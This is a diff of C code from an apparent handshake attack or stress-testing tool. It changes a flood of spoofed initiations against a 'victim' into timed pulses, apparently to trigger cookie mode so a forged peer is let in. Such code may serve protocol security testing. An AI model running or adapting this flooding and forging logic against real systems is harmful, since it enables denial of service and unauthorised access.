@@ -150,9 +150,17 @@ void mode_cookie_forge(const struct options *opt, int argc, char **argv)
 	duo_close(&d);
 }
 
-static pid_t start_flood(const struct options *opt, uint64_t rate)
+/*
+ * Each pulse puts the victim under load by itself, for a second, in which it has
+ * the time to work it off even where each instruction is checked.
+ */
+#define PULSE		768
+#define PULSE_MS	800
+
+static pid_t start_flood(const struct options *opt)
 {
-	struct flood f = { .kind = "init", .count = UINT64_MAX, .rate = rate,
+	struct flood f = { .kind = "init", .count = UINT64_MAX,
+			   .rate = PULSE * 1000 / PULSE_MS, .pulse = PULSE,
 			   .seconds = 900 };
 	pid_t pid;
 
@@ -297,21 +305,22 @@ static void rate_limit(struct peer *p, unsigned int ms)
 /**
  * mode_cookie_load() - a victim under load wants cookies and lets us in
  * @opt:	options
- * @argc:	0 to 1
- * @argv:	spoofed initiations a second, default 0 for as many as go out
+ * @argc:	unused
+ * @argv:	unused
  */
 void mode_cookie_load(const struct options *opt, int argc, char **argv)
 {
-	uint64_t rate = argc > 0 ? strtoull(argv[0], NULL, 0) : 0;
 	uint64_t start, took = 0, limit = opt->patience_ms;
 	static struct peer p, elsewhere;
 	uint8_t wrong[MAC_LEN];
 	enum event_kind got;
 
+	(void)argc;
+	(void)argv;
 	peer_open(&p, opt, opt->from, opt->port, opt->psk);
 	peer_bring_up(&p);
 	start = now_ms();
-	flood_pid = start_flood(opt, rate);
+	flood_pid = start_flood(opt);
 	atexit(stop_flood);
 
 	do {
